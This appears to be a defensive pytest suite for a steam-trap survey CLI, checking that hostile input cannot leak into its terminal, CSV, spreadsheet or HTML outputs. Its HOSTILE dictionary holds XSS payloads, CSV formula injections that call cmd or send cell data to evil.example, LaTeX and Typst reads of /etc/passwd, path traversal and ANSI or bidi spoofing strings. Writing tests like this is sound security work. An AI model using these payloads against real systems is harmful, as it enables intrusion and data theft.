"""Every hostile text, in every place a text can come from, looked at in everything it comes out of.

In: tags, notes, areas, stations, equipment, an unknown header, the file's name, the site's TOML,
the header map. Out: the terminal, CSV, XLSX, the owner's page, the plan's page, errors.
"""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from survey.cli import main

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": "\"'><img src=x onerror=alert(1)>",
    "closing": "</td></table></style></title><svg onload=alert(1)>",
    "entity": "&lt;b&gt; &#x3c;script&#x3e;",
    "comment": "--><!-- ]]> <![CDATA[",
    "markdown link": "[press](javascript:alert(1))",
    "markdown picture": "![x](https://evil.example/x.png)",
    "markdown table": "| a | b |\n|---|---|\n# head",
    "latex": r"\input{/etc/passwd} $\write18{id}$ % \end{document}",
    "typst": '#read("/etc/passwd") #import "x.typ" $ x $ @label <label>',
    "template": "{{ 7 * 7 }}{% raw %}${7*7}%(x)s%n",
    "formula": '=HYPERLINK("https://evil.example/"&A1,"press")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind space": " \u00a0=1+1",
    "formula behind quote": "'=1+1",
    "formula full width": "＝1+1",
    "formula behind a tab": "\t=1+1",
    "path": "../../../etc/passwd",
    "path of windows": r"..\..\C:\windows\x.ini",
    "right to left": "ab\u202egpj.exe",
    "isolate": "\u2066ab\u2069\u200f",
    "ansi": "\x1b[31mred\x1b[2J\x1b]8;;https://evil.example\x07press\x1b]8;;\x07",
    "ansi of one byte": "\x9b31mred",
    "bell and backspace": "ab\x07\x08\x08cd",
    "null": "ab\x00cd",
    "carriage return": "safe\rEVIL",
    "line separator": "ab\u2028cd\u2029ef\x85gh",
    "long": "x" * 200_000,
    "long without end": "<" * 200_000,
    "combining": "a" + "\u0301" * 500,
}
PLACES = ("tag", "note", "area", "station", "equipment", "odd header")
ALLOWED_CONTROLS = {"\n"}
FORMULA = re.compile(r"^[\s\u00a0]*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+\.?\d*(e[+-]?\d+)?", re.IGNORECASE)


def dangerous(text: str) -> list[str]:
    """Return the characters that could move a cursor, hide text or turn it round."""
    bidi = set("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return sorted({
        mark for mark in text
        if (unicodedata.category(mark) == "Cc" and mark not in ALLOWED_CONTROLS) or mark in bidi
    })


def starts_formula(cell: str) -> bool:
    return bool(FORMULA.match(cell)) and not NUMBER.fullmatch(cell)


class Page(HTMLParser):
    """What a browser would act on in a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts = 0
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        if tag in ("iframe", "object", "embed", "form", "base", "img", "video", "audio"):
            self.found.append(tag)
        for name, value in attrs:
            said = value or ""
            if name.startswith("on") or "javascript:" in said:
                self.found.append(f"{tag} {name}={said[:60]}")
            if name in ("href", "src", "action", "xlink:href") and not (
                said.startswith("#") or said == "data:,"
            ):
                self.found.append(f"{tag} {name}={said[:60]}")


def run(*arguments: str | Path) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def write_round(path: Path, place: str, text: str) -> None:
    """Write three rows, two of them ordinary, with the text in one place of the third."""
    head = ["tag", "device", "equipment", "area", "station", "inlet_temp_f", "outlet_temp_f",
            "supply_psig", "return_psig", "sound_db", "orifice_in", "note", "remark"]
    rows = [[f"T-{at}", "trap", f"UH-{at}", "Hall", "North", "250", "245", "15", "0", "70", "0.15",
             "by the door", "x"] for at in range(3)]
    if place == "odd header":
        head[-1] = text
    else:
        rows[2][head.index(place)] = text
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows([head, *rows])


def plain(done: Result) -> None:
    assert done.exit_code in (0, 1, 2)
    assert dangerous(done.stdout) == []
    assert dangerous(done.stderr) == []
    assert "Traceback" not in done.output
    assert "fault in survey itself" not in done.stderr


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("place", PLACES)
def test_hostile_text_is_harmless_in_everything_that_comes_out(
    tmp_path: Path, place: str, text: str
) -> None:
    source, totals = tmp_path / "round.csv", tmp_path / "totals.json"
    write_round(source, place, text)
    out = {end: tmp_path / f"out.{end}" for end in ("csv", "xlsx", "parquet")}
    rejects = tmp_path / "rejects.csv"
    for path in out.values():
        done = run("analyze", source, "--out", path, "--rejects", rejects, "--summary", totals)
        plain(done)
    if done.exit_code:
        return  # refused in words: nothing of it comes out
    counts = json.loads(totals.read_text(encoding="utf-8"))
    assert counts["rows_read"] == 3 == counts["rows_judged"] + counts["rows_set_aside"]
    for path in (out["csv"], rejects):
        check_csv(path)
    check_workbook(out["xlsx"])
    page = tmp_path / "page.html"
    plain(run("report", out["parquet"], "--out", page))
    check_page(page)
    book = tmp_path / "report.xlsx"
    plain(run("report", out["parquet"], "--out", book))
    check_workbook(book)


def check_csv(path: Path) -> None:
    csv.field_size_limit(10_000_000)
    with path.open(encoding="utf-8", newline="") as stream:
        for row in csv.reader(stream):
            for cell in row:
                assert not starts_formula(cell), cell[:80]
                assert dangerous(cell) in ([], ["\t"]), cell[:80]


def check_workbook(path: Path) -> None:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        assert not sheet._hyperlinks
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert not starts_formula(cell.value), cell.value[:80]
                    assert dangerous(cell.value) in ([], ["\t"])
                    assert len(cell.value) <= 32_767
    book.close()


def check_page(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    page = Page(text)
    assert page.found == []
    assert page.scripts == 1  # our own, let through by its hash
    assert dangerous(text) == []
    assert len(text) < 3_500_000


NAMED = {name: text for name, text in HOSTILE.items() if "\x00" not in text}


@pytest.mark.parametrize("text", NAMED.values(), ids=NAMED.keys())
def test_a_file_name_is_harmless(tmp_path: Path, text: str) -> None:
    short = text.replace("/", "∕")[:60]
    source = tmp_path / f"{short}.csv"
    write_round(source, "note", "ordinary")
    out = tmp_path / "out.parquet"
    plain(run("analyze", source, source.with_name(f"no {short}.csv")))
    done = run("analyze", source, "--out", out)
    plain(done)
    assert done.exit_code == 0
    page = tmp_path / "page.html"
    plain(run("report", out, "--out", page))
    check_page(page)
    plain(run("report", out, "--out", tmp_path / f"{short}.pages"))
    named = tmp_path / f"{short}.parquet"
    plain(run("analyze", source, "--out", named))
    plain(run("share", tmp_path / f"none {short}.parquet"))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("key", ["name", "currency", "unknown key", "station"])
def test_the_sites_file_is_harmless(tmp_path: Path, key: str, text: str) -> None:
    quoted = json.dumps(text)  # a TOML basic string as well, surrogates aside
    site = tmp_path / "site.toml"
    site.write_text({
        "name": f"name = {quoted}\n", "currency": f"currency = {quoted}\n",
        "unknown key": f"{quoted} = 1\n",
        "station": f"[stations.{quoted}]\nsupply_psig = 15\nreturn_psig = 0\n",
    }[key].replace("\x7f", "\\u007F"), encoding="utf-8")
    source, out, page = tmp_path / "round.csv", tmp_path / "out.parquet", tmp_path / "page.html"
    write_round(source, "note", "ordinary")
    done = run("analyze", source, "--site", site, "--out", out)
    plain(done)
    if done.exit_code == 0:
        plain(run("report", out, "--out", page))
        check_page(page)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_header_map_is_harmless(tmp_path: Path, text: str) -> None:
    source, mapped = tmp_path / "round.csv", tmp_path / "map.toml"
    write_round(source, "note", "ordinary")
    for line in (f'{json.dumps(text)} = "note"', f'"remark" = {json.dumps(text)}'):
        mapped.write_text(f"[columns]\n{line}\n", encoding="utf-8")
        plain(run("analyze", source, "--map", mapped))


@pytest.mark.parametrize("text", NAMED.values(), ids=NAMED.keys())
def test_the_plan_for_the_pressure_is_harmless(tmp_path: Path, text: str) -> None:
    source, page = tmp_path / "round.csv", tmp_path / "plan.html"
    write_round(source, "equipment", text)
    plain(run("pressure", source, "--to", "5", "--out", page))
    if page.exists():
        assert Page(page.read_text(encoding="utf-8")).found == []
        assert dangerous(page.read_text(encoding="utf-8")) == []


@pytest.mark.parametrize("text", NAMED.values(), ids=NAMED.keys())
def test_a_links_label_and_folder_are_harmless(
    tmp_path: Path, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SURVEY_HOME", str(tmp_path / "home"))
    source, out = tmp_path / "round.csv", tmp_path / "out.parquet"
    write_round(source, "note", "ordinary")
    run("analyze", source, "--out", out)
    plain(run("share", out, "--label", text))
    plain(run("share", out, "--to", text[:60], "--areas", text))
    plain(run("share", out, "--base-url", text))
    listed = run("shares")
    plain(listed)
    assert len(listed.stdout) < 600
    plain(run("unshare", text))
